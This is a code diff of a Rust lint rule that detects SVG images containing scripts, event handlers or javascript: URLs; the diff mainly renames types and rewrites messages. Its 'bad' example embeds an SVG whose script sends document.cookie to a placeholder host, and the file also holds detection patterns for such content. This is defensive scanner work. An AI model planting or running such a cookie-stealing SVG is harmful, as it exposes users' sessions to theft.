@@ -1,16 +1,16 @@
-//! SK728: pictures that run.
+//! SK728: SVG images with scripts.
 
-use super::hosts::Address;
+use super::hosts::WebAddress;
+use super::redact::redact_text;
 use super::rule;
-use super::scan::{Hit, Ledger, Pattern, Round, Tell};
-use super::show::shown;
-use super::text::{Kind, Scope};
-use crate::lint::{Docs, Example, Piece, Rule};
-use crate::report::Level;
+use super::scan::{FindingSink, PatternFinding, PatternMatch, ScanPass, SecurityPattern};
+use super::text::{TextKind, WindowScope};
+use crate::{ExampleFile, Rule, RuleDocs, RuleExample};
+use skillpm_core::report::DiagnosticLevel;
 
-const PAGE: (&str, Piece) = (
+const PAGE: (&str, ExampleFile) = (
     "pdf/SKILL.md",
-    Piece::Text(
+    ExampleFile::Text(
         "---\nname: pdf\ndescription: Fill PDF forms. Use when a form is to be filled in.\n---\n\nSee ![form](form.svg).\n",
     ),
 );
@@ -18,28 +18,28 @@ const PAGE: (&str, Piece) = (
 pub(super) static RULE: Rule = rule(
     "SK728",
     "svg-script",
-    Level::Error,
-    "a picture holds a program",
-    Docs {
-        finds: "SVG files with scripts, event handlers (`onload=`), `javascript:` addresses, external entities or foreign HTML. A warning where \
-                what they do stays within the picture.",
-        hurts: "Opened in a browser the picture runs: it can send what it sees, or lead to a false log-in page. Reviewers look at pictures, \
-                not into them.",
-        ignore: "Interactive drawings. Make them an HTML page, which everybody knows to be a program.",
-        bad: &[Example::files(&[
+    DiagnosticLevel::Error,
+    "an SVG image contains a script",
+    RuleDocs {
+        finds: "SVG files with scripts, event handlers (`onload=`), `javascript:` URLs, external \
+               entities or foreign HTML. A warning where the effect stays within the image.",
+        hurts: "Opened in a browser the image runs: it can send data to a server, or lead to a \
+               fake login page (phishing). Reviewers look at images, not into them.",
+        ignore: "Interactive drawings. Make them an HTML page, which is known to run scripts.",
+        bad: &[RuleExample::files(&[
             PAGE,
             (
                 "pdf/form.svg",
-                Piece::Text(
+                ExampleFile::Text(
                     "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('https://x.example/'+document.cookie)</script></svg>\n",
                 ),
             ),
         ])],
-        good: &[Example::files(&[
+        good: &[RuleExample::files(&[
             PAGE,
             (
                 "pdf/form.svg",
-                Piece::Text(
+                ExampleFile::Text(
                     "<svg xmlns=\"http://www.w3.org/2000/svg\"><style>.a{fill:red}</style><rect class=\"a\" width=\"9\" height=\"9\"/></svg>\n",
                 ),
             ),
@@ -47,7 +47,7 @@ pub(super) static RULE: Rule = rule(
     },
 );
 
-pub(super) const PATTERNS: &[Pattern] = &[Pattern {
+pub(super) const PATTERNS: &[SecurityPattern] = &[SecurityPattern {
     triggers: &[
         "<script",
         "onload",
@@ -62,16 +62,16 @@ pub(super) const PATTERNS: &[Pattern] = &[Pattern {
         "<foreignobject",
         "<iframe",
     ],
-    scope: Scope::Paragraphs,
-    form: r#"(?:<script\b[^>]{0,200}>?.{0,1500}?(?:</script>|/>|$)|\s(?P<handler>on(?:load|click|error|begin|end|mouseover|focus\w*))\s*=\s*["'][^"']{1,600}|(?:href|src|to|values)\s*=\s*["']\s*(?:javascript|data:text/html)[^"']{0,300}|<!entity\s[^>]{0,300}|<iframe\b[^>]{0,300}|<foreignobject\b.{0,400}?<(?:script|iframe|form|input|object|embed)\b)"#,
-    needs: &[],
-    round: Round::First,
-    only: Some(Kind::Svg),
-    judge,
+    scope: WindowScope::Paragraphs,
+    regex: r#"(?:<script\b[^>]{0,200}>?.{0,1500}?(?:</script>|/>|$)|\s(?P<handler>on(?:load|click|error|begin|end|mouseover|focus\w*))\s*=\s*["'][^"']{1,600}|(?:href|src|to|values)\s*=\s*["']\s*(?:javascript|data:text/html)[^"']{0,300}|<!entity\s[^>]{0,300}|<iframe\b[^>]{0,300}|<foreignobject\b.{0,400}?<(?:script|iframe|form|input|object|embed)\b)"#,
+    required_words: &[],
+    pass: ScanPass::First,
+    only_in: Some(TextKind::Svg),
+    report: check_script,
 }];
 
-/// What a script in a picture has that reaches beyond the picture.
-const REACHES: [&str; 16] = [
+/// Parts of a script that reach beyond the image.
+const OUTSIDE_ACCESS: [&str; 16] = [
     "fetch(",
     "xmlhttprequest",
     "eval(",
@@ -90,14 +90,36 @@ const REACHES: [&str; 16] = [
     "javascript:",
 ];
 
-fn judge(hit: &Hit<'_>, ledger: &mut Ledger<'_>) {
-    if hit.view.source.kind != Kind::Svg {
+fn check_script(hit: &PatternMatch<'_>, sink: &mut FindingSink<'_>) {
+    if hit.view.source.kind != TextKind::Svg {
         return;
     }
+
     let text = hit.text().to_lowercase();
-    let reaches = REACHES.iter().any(|word| text.contains(word)) || Address::find(hit.text()).is_some();
-    let level = if reaches { Level::Error } else { Level::Warning };
-    let what = if reaches { "runs a program that reaches beyond it" } else { "runs a program" };
-    let message = format!("a picture that {what}: '{}'", shown(&hit.text()[..hit.text().floor_char_boundary(80)]));
-    ledger.tell(hit, Tell::new(&RULE, level, message, "draw it without scripts; make a page of it if it has to act"));
+    let reaches = OUTSIDE_ACCESS.iter().any(|word| text.contains(word))
+        || WebAddress::find(hit.text()).is_some();
+    let level = if reaches {
+        DiagnosticLevel::Error
+    } else {
+        DiagnosticLevel::Warning
+    };
+    let what = if reaches {
+        "runs a script with access beyond the image"
+    } else {
+        "runs a script"
+    };
+
+    let message = format!(
+        "SVG image {what}: '{}'",
+        redact_text(&hit.text()[..hit.text().floor_char_boundary(80)])
+    );
+    sink.report(
+        hit,
+        PatternFinding::new(
+            &RULE,
+            level,
+            message,
+            "draw it without scripts; use an HTML page if it has to be interactive",
+        ),
+    );
 }
